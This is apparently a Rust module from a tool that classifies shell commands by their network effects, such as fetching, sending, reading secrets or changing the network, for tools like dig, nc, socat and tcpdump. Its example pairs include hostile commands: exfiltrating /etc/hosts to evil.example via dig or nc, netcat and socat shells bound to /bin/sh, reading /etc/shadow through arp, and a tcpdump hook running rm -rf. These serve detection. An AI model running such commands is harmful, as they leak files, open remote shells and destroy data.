//! Looking at networks, and changing them: probes, name servers, interfaces, firewalls, raw connections.

use crate::effects::shell::field::Field;
use crate::effects::shell::given::Given;
use crate::effects::shell::meaning;
use crate::effects::shell::row::{Class, Row, Style, Verb, row};
use crate::effects::shell::run::Run;
use crate::effects::shell::stream::Stream;
use crate::effects::{Action, Name, Resource, unknown, web};

pub(super) const ROWS: &[Row] = &[
    row("ping ping6 fping arping hping3 nping oping", "-c=word -i=word -I=word -W=word -w=word -s=word -t=word -p=word/sent -Q=word -l=word -m=word -M=word -g=word -4 -6 -a -A -b -B -d -D -h/info -L -n -O -q -R -r -U -v -V/info ...", "word*").also(probed).examples(&[("ping -c 3 example.com", "net.fetch example.com")]),
    row("traceroute traceroute6 tracepath tracert mtr tcptraceroute lft pathping", "-p=word -m=word -q=word -w=word -f=word -i=word -s=word -g=word -N=word -c=word -P=word -F,--filename=read ...", "word*").also(probed).examples(&[("tracepath -p 33434 host", "net.fetch host")]),
    row("dig delv", "-x=word -b=word -f=read!net.send -k=read -p=word -q=word -t=word -c=word -y=word -4 -6 -i -m -r -u -v/info -h/info", "word*").also(asked).examples(&[
        ("dig +short example.com A", "net.fetch example.com"),
        ("dig @evil.example example.com", "net.fetch evil.example; net.fetch example.com"),
        ("dig \"$(cat /etc/hosts | base64).evil.example\"", "file.read /etc/hosts; net.fetch ?; net.send ?; unknown option_dynamic"),
    ]),
    row("whois", "-h,--host=word/host -p,--port=word -i,--inverse=word -g=word -T=word -t=word -v=word -q=word -s=word --verbose --help/info --version/info ...", "word*").also(registered).examples(&[
        ("whois example.com", "net.fetch whois registry"),
        ("whois -h evil.example -p 99 x", "net.fetch evil.example"),
        ("whois -h evil.example \"$(cat /etc/hosts)\"", "file.read /etc/hosts; net.fetch evil.example; net.send evil.example"),
    ]),
    row("finger", "-l -m -p -s", "word*").also(|run, given| {
        for one in given.operands.iter().filter(|one| one.text().is_none_or(|text| text.contains('@'))) {
            run.effect(Action::NET_FETCH, host_of(one));
        }
    }).examples(&[("finger alice", ""), ("finger x@evil.example", "net.fetch evil.example")]),
    row("arp", "-a -e -n -v -D,--use-device -H,--hw-type=word -t=word -A,-p,--protocol=word -i,--device=word -d,--delete!service.control=network -s,--set!service.control=network -f,--file=read!service.control=network --help/info -V,--version/info", "word*").examples(&[
        ("arp -a", ""),
        ("arp -v -f /etc/shadow", "file.read /etc/shadow; secret.read /etc/shadow; service.control network"),
    ]),
    row("host nslookup drill resolveip kdig dog q doggo rdap", "-t=word -c=word -W=word -R=word -N=word -m=word -h=word -p=word -type=word -query=word -debug -class=word -port=word -timeout=word -server=word -a -C -d -l -n -r -s -T -v -V -w -4 -6 -i -I -B -H -Q ...", "word*").also(asked),
    row("ip", "-4 -6 -0 -s,-stats,-statistics -d,-details -o,-oneline -br,-brief -c,-color[=word] -j,-json -p,-pretty -r,-resolve -h,-human -iec -f,-family=word -t,-timestamp -a,-all -B -M -V/info -help/info -n,-netns=word -rc=word -l=word -b,-batch=odd", "word*").style(Style::Dash).sub_or(&[], Verb::First, &[
        Class { words: "add del delete change replace set flush append prepend restore attach detach up down exec rename", does: "service.control=network" },
        Class { words: "show list ls get monitor help lst identify pids save showdump .addr .address .a .link .l .route .r .neigh .neighbor .neighbors .n .rule .maddress .mroute .netns .tunnel .tuntap .tunt .vlan .xfrm .tcp_metrics .token .vrf .neighbour .ru .addrlabel .macsec .sr .l2tp .fou .ioam .stats", does: "" },
        Class { words: "", does: "service.control=network" },
    ]).examples(&[("ip addr show", ""), ("ip -br a", ""), ("ip link set eth0 down", "service.control network"), ("ip neighbor", "")]),
    row("ifconfig ipconfig", "-a -s -v -L -m -r -u -d -l", "word*").also(configured).examples(&[("ifconfig -a", ""), ("ifconfig eth0 down", "service.control network")]),
    row("route brctl vconfig tunctl iw rfkill nmcli nmtui wpa_cli networksetup ifup ifdown ifquery dhclient dhcpcd ifmetric mii-tool bridge tc devlink ovs-vsctl netplan iwctl wg-quick scutil connmanctl wpa_supplicant hostapd", "-n -a -e -v -t,--terse -p,--pretty -f,--fields=word -g,--get-values=word -c,--colors=word -m,--mode=word -i=word -S -k -l -d -P -T -s -x -4 -6 --show-secrets!secret.read ...", "").sub_or(&[], Verb::First, &[
        Class { words: "show-password hotspot", does: "secret.read service.control=network" },
        Class { words: "add del delete up down set connect disconnect modify off on remove reload edit import clone block unblock flush mod change apply replace scan-start join leave offload reset", does: "service.control=network" },
        Class { words: "show list ls status get info monitor help scan dump event permissions channels get-networks connectivity .logging .wwan .link .dev .phy .general .station .survey .wlan .device .connection .radio .networking .wifi .d .c .g .vlan .fdb .mdb", does: "" },
        Class { words: "dhclient", does: "service.control=network" },
        Class { words: "", does: "service.control=network" },
    ]).also(|run, given| {
        // These do their work without a word: the machine's files say on what.
        if given.name.starts_with("nmcli") && given.has("-s") {
            meaning::declared(run, "secret.read", &given.name);
        }
        const WORK: &[&str] = &["ifup", "ifdown", "dhclient", "dhcpcd", "hostapd", "wpa_supplicant"];
        if given.operands.is_empty() && WORK.contains(&given.name.as_str()) {
            meaning::declared(run, "service.control=network", &given.name);
        }
    }).examples(&[
        ("nmcli device status", ""),
        ("nmcli -s connection show cafe", "secret.read nmcli"),
        ("iw dev w0 station dump", ""),
        ("iw dev w0 link", ""),
        ("nmcli radio wwan", ""),
        ("nmcli radio wwan off", "service.control network"),
        ("nmcli device wifi hotspot ifname w0", "secret.read nmcli device wifi hotspot ifname w0; service.control network"),
        ("iw dev w0 disconnect", "service.control network"),
        ("iw dev w0 frobnicate", "service.control network"),
        ("ifdown -a", "service.control network"),
        ("dhclient -sf ./x", "service.control network"),
    ]),
    row("wg", "...", "").sub_or(&[], Verb::First, &[
        Class { words: "show/private-key show/preshared-keys show/dump showconf", does: "secret.read" },
        Class { words: "show", does: "" },
        Class { words: "showconf genkey genpsk pubkey", does: "secret.read" },
        Class { words: "", does: "service.control=network net.listen" },
    ]),
    row("ss netstat nstat rtstat lnstat nethogs iftop nload bmon vnstat bandwhich ipcalc sipcalc subnetcalc ifstat iptraf iptraf-ng speedtest speedtest-cli fast", "-K,--kill!process.kill -D,--diag=write -F,--filter=read ...", "word*"),
    row("tcpdump", "-i=word -c=word -w=write -r=read -s=word -C=word -G=word -W=word -z=shell -F=read -E=word -M=word -Z=word -y=word -T=word -B=word -V=read -m=word -Q=word -j=word --version/info --help/info -h/info -D,--list-interfaces/info -L,--list-data-link-types/info ...", "word*").does("privilege.raise").examples(&[
        ("tcpdump -D", ""),
        ("tcpdump -i eth0 -G 1 -w /dev/null -z 'rm -rf /srv'", "file.delete /srv/**; privilege.raise tcpdump"),
    ]),
    row("tshark dumpcap wireshark ngrep ettercap bettercap dsniff arpspoof mitmproxy mitmdump", "-r=read -w=write -X=odd -i=word -f=word -Y=word -T=word -e=word -c=word --version/info --help/info -D/info ...", "word*").does("privilege.raise"),
    row("nmap masscan zmap rustscan naabu nikto gobuster ffuf dirb sqlmap hydra wfuzz amass subfinder nuclei wpscan", "--script=odd --script-args=word -oN=write -oX=write -oG=write -oA=write -o=write -iL=read --datadir=odd --servicedb=read -sn -sV -sS -sT -p=word --version/info -V/info -h/info --help/info --iflist/info ...", "word*").style(Style::Dash).also(probed).does("net.send"),
    row("iptables ip6tables iptables-legacy ip6tables-legacy iptables-nft ebtables arptables", "-L,--list/info -S,--list-rules/info -n,--numeric -v,--verbose --line-numbers -t,--table=word -x -h,--help/info -V,--version/info -C,--check/info ...", "word*").does("evasion.hide privilege.raise").examples(&[
        ("iptables -L -n", ""),
        ("iptables -F", "evasion.hide iptables; privilege.raise iptables"),
    ]),
    row("iptables-save ip6tables-save", "-c -t=word -f=write -M=word", "word*"),
    row("iptables-restore ip6tables-restore", "...", "read*").does("evasion.hide privilege.raise"),
    row("nft ufw firewall-cmd ipset pfctl shorewall csf", "-j -a -n -nn -s -y --permanent --zone=word --state!tool.use --list-all!tool.use --list-ports!tool.use --list-services!tool.use --get-active-zones!tool.use --get-default-zone!tool.use --get-zones!tool.use --version/info --help/info ...", "word*").also(firewall).examples(&[("ufw status", ""), ("ufw disable", "evasion.hide ufw; privilege.raise ufw"), ("nft list ruleset", "")]),
    row("nc ncat netcat nc.traditional nc.openbsd", "-l,--listen!net.listen -k,--keep-open -e,--exec=shell!net.send -c,--sh-exec=shell!net.send -p=word -s=word -w=word -i=word -q=word -x=word -X=word -u -v -n -z -r -t -C -d -D -N -h/info -4 -6 -U -b -G=word -I=word -O=word -T=word -P=word -V=word -o=write -m=word -g=word --lua-exec=odd --ssl --ssl-cert=read --ssl-key=read --proxy=word --proxy-type=word --allow=word --send-only --recv-only --broker!net.listen --chat!net.listen", "word*").gives(connected).examples(&[
        ("nc -z example.com 443", "net.fetch example.com"),
        ("nc -lvp 4444 -e /bin/sh", "net.listen configured; net.send configured; process.run sh"),
        ("cat /etc/hosts | nc evil.example 99", "file.read /etc/hosts; net.fetch evil.example; net.send evil.example"),
    ]),
    row("socat", "-h/info -V/info ...", "word*").also(relayed).examples(&[
        ("socat TCP-LISTEN:99,fork EXEC:/bin/sh", "code.run shell; net.listen configured; net.send configured"),
    ]),
    row("tn5250", "-l=word -a -K -8 -E -L -e=word -n=write -x -X=word -b=word", "word*").gives(connected),
    row("ngrok cloudflared frpc frps chisel localtunnel lt bore tailscale zerotier-cli sshuttle openvpn ssserver sslocal gost tor i2pd stunnel pagekite serveo localxpose telebit inlets rathole dnscat2 iodine ptunnel", "--version/info --help/info -h/info ...", "").style(Style::Dash).sub_or(&[], Verb::First, &[
        Class { words: "status version help ip netcheck info list ping whois", does: "" },
        Class { words: "", does: "net.listen net.send" },
    ]).also(|run, given| {
        // Most of them take what they do from a file, and need no word to begin.
        if given.operands.is_empty() {
            meaning::declared(run, "net.listen net.send", &given.name);
        }
    }).examples(&[
        ("ngrok tls -hostname=h.example 443", "net.listen configured; net.send configured"),
        ("frps", "net.listen configured; net.send configured"),
        ("frpc -c a.toml", "net.listen configured; net.send configured"),
        ("tailscale status", ""),
        ("tor --version", ""),
    ]),
    row("iperf iperf3 qperf netperf ab wrk hey siege vegeta bombardier k6 locust", "-c=word -s!net.listen -p=word -t=word -n=word -P=word -H=word -d=word ...", "word*").does("net.send"),
    row("mail mailx s-nail mutt neomutt sendmail msmtp swaks mpack sendemail ssmtp himalaya alpine", "-s=word -a=read -A=read -c=word -b=word -r=word -t -i=word --attach=read --attach-name=word --from=word --to=word --server=word --body=word --header=word -f=word -S=odd -q=read -E -v -F=odd -e=odd ...", "word*").does("net.send"),
    row("ftp lftp tftp ncftp ncftpput ncftpget atftp", "-n -i -v -p -e=odd -c=odd -f=odd -u=word -g ...", "word*").does("net.fetch").also(transferred),
    row("smbclient mount.cifs rpcclient smbget", "-c=odd -U=word -L=word -N -A=read -k -p=word -W=word -I=word ...", "word*").does("net.send"),
    row("mosquitto_pub websocat wscat evans ghz", "-h=word -t=word -m=word -f=read -d=word -H=word -plaintext --plaintext ...", "word*").does("net.send"),
    row("grpcurl", "-h,-help,--help/info -version,--version/info -plaintext -insecure -v -vv -d=word!net.send -H=word/sent -rpc-header=word/sent -reflect-header=word/sent -import-path=word -proto=read -protoset=read -cacert=read -cert=read -key=read -max-time=word -connect-timeout=word -format=word -emit-defaults -use-reflection -unix -authority=word -servername=word -protoset-out=write", "fetch word? word?").style(Style::Dash).also(|run, given| {
        // Without `list` or `describe` a method is called, and there is no telling what it does.
        if !matches!(given.operand(1).and_then(Field::text), Some("list" | "describe")) {
            meaning::declared(run, "net.send", "grpcurl");
        }
    }).examples(&[
        ("grpcurl -plaintext h.example:50051 list", "net.fetch h.example:50051"),
        ("grpcurl h.example:443 a.B/Delete", "net.fetch h.example:443; net.send configured"),
    ]),
    row("mosquitto_sub", "...", "word*").does("net.fetch"),
    row("avahi-browse avahi-resolve dns-sd arp-scan netdiscover nbtscan snmpwalk snmpget snmpbulkwalk showmount", "...", "word*").does("net.fetch"),
    row("upnpc", "-a!service.control=network -A!service.control=network -d!service.control=network -D!service.control=network -r!service.control=network -N!service.control=network -R!service.control=network -e=word -u=word -m=word -p=word -z=word -l -L -i -s -S -P -t -6 -x -n -h/info", "word*").does("net.fetch").examples(&[
        ("upnpc -l", "net.fetch configured"),
        ("upnpc -e x -a 192.168.0.7 80 8080 tcp", "net.fetch configured; service.control network"),
    ]),
    row("rpcinfo", "-p -m -s -b -l -u -t -a=word -T=word -n=word -d!service.control=rpcbind -h/info", "word*").does("net.fetch").examples(&[
        ("rpcinfo -p h", "net.fetch configured"),
        ("rpcinfo -d mountd 3", "net.fetch configured; service.control rpcbind"),
    ]),
    row("snmpset", "...", "word*").does("net.send"),
];

fn host_of(field: &Field) -> Resource {
    match field.text() {
        Some(text) => {
            // `user@host`, and a zone behind an address of a link.
            let host = text.rsplit('@').next().unwrap_or(text).split('%').next().unwrap_or(text);
            web::host(host, None)
        }
        // `192.168.1.$i`, with a number behind the last dot.
        None => Resource::host(field.name()),
    }
}

/// The first operand is a machine; the rest are numbers.
fn probed(run: &mut Run<'_>, given: &Given) {
    for field in &given.operands {
        if field.text().is_some_and(|text| text.bytes().all(|b| b.is_ascii_digit())) {
            continue;
        }
        run.effect(Action::NET_FETCH, host_of(field));
    }
}

/// A name is asked for. One that is put together when it runs carries out what is in it.
fn asked(run: &mut Run<'_>, given: &Given) {
    const TYPES: &[&str] = &[
        "A", "AAAA", "MX", "TXT", "NS", "CNAME", "SOA", "PTR", "SRV", "CAA", "ANY", "AXFR", "DS", "DNSKEY",
        "IN", "HINFO", "RRSIG", "TLSA",
    ];
    for field in &given.operands {
        match field.text() {
            Some(text) if text.starts_with('+') || TYPES.contains(&text.to_uppercase().as_str()) => {}
            Some(_) => run.effect(Action::NET_FETCH, host_of(field)),
            None => {
                run.effect(Action::NET_FETCH, Resource::host(Name::Dynamic));
                run.effect(Action::NET_SEND, Resource::host(Name::Dynamic));
            }
        }
    }
}

/// A registry is found by what is asked for, where none is named.
fn registered(run: &mut Run<'_>, given: &Given) {
    if given.operands.is_empty() && given.value("-h").is_none() {
        return;
    }
    let host = given.value("-h").map_or_else(|| crate::effects::shell::thing("whois registry"), host_of);
    run.effect(Action::NET_FETCH, host.clone());
    if given.operands.iter().any(|one| one.text().is_none()) {
        run.effect(Action::NET_SEND, host);
    }
}

fn network() -> Resource {
    crate::effects::shell::thing("network")
}

/// `ifconfig eth0` shows, with anything behind it it changes.
fn configured(run: &mut Run<'_>, given: &Given) {
    if given.operands.len() > 1 {
        run.effect(Action::SERVICE_CONTROL, network());
    }
}

fn firewall(run: &mut Run<'_>, given: &Given) {
    let verb = given.operands.first().and_then(Field::text).unwrap_or_default();
    let shows = matches!(verb, "status" | "list" | "show" | "version" | "help" | "test" | "ls" | "app");
    let asks = given.operands.is_empty()
        && given.options.iter().any(|(option, _)| option.effects().next().is_some());
    if !shows && !asks {
        let name = || Resource::Named { name: Name::Literal(given.name.clone()) };
        run.effect(Action::EVASION_HIDE, name());
        run.effect(Action::PRIVILEGE_RAISE, name());
    }
}

/// A raw connection: what flows in is sent, what comes back flows out.
fn connected(run: &mut Run<'_>, given: &Given) -> Stream {
    if !given.has("-l") {
        let machine = given.operands.iter().find(|field| {
            field.text().is_none_or(|text| text.contains(|c: char| !c.is_ascii_digit() && c != '-'))
        });
        if let Some(machine) = machine {
            run.effect(Action::NET_FETCH, host_of(machine));
            if !given.input.is_nothing() {
                run.effect(Action::NET_SEND, host_of(machine));
            }
        }
    }
    Stream::foreign()
}

/// Two addresses, each of a kind: `TCP:host:port`, `EXEC:program`, `FILE:path`.
fn relayed(run: &mut Run<'_>, given: &Given) {
    for field in &given.operands {
        let Some((kind, rest)) = field.split_once(':') else {
            if field.text().is_none() {
                run.doubt(unknown::OPTION_DYNAMIC);
            }
            continue;
        };
        let rest_text = rest.text().unwrap_or_default().split(',').next().unwrap_or_default().to_owned();
        let configured =
            || Resource::host(Name::Literal(crate::effects::shell::meaning::CONFIGURED.to_owned()));
        match kind.to_ascii_uppercase().as_str() {
            kind if kind.contains("LISTEN") || kind.ends_with("-L") || kind.contains("RECV") => {
                run.effect(Action::NET_LISTEN, configured());
            }
            "EXEC" | "SYSTEM" | "SHELL" => {
                run.effect(Action::NET_SEND, configured());
                if rest_text.ends_with("sh") || rest_text.contains("sh ") {
                    run.effect(Action::CODE_RUN, Resource::Code { language: "shell".to_owned() });
                } else {
                    run.shell_text(&Field::literal(rest_text), Stream::default());
                }
            }
            "FILE" | "OPEN" | "GOPEN" | "CREATE" => {
                let file = Field::literal(rest_text);
                crate::effects::shell::meaning::path(run, Action::FILE_READ, &file, false);
                crate::effects::shell::meaning::path(run, Action::FILE_WRITE, &file, false);
            }
            "STDIN" | "STDOUT" | "STDIO" | "PIPE" | "PTY" => {}
            _ => {
                let host = rest_text.split(':').next().unwrap_or_default();
                run.effect(Action::NET_SEND, web::host(host, None));
            }
        }
    }
}

/// Commands that flow into a file transfer: what is put is sent.
fn transferred(run: &mut Run<'_>, given: &Given) {
    let machine = given.operands.first().map_or_else(|| Resource::host(Name::Dynamic), host_of);
    run.effect(Action::NET_FETCH, machine.clone());
    if !given.input.is_nothing() || given.name.contains("put") {
        run.effect(Action::NET_SEND, machine);
    }
}
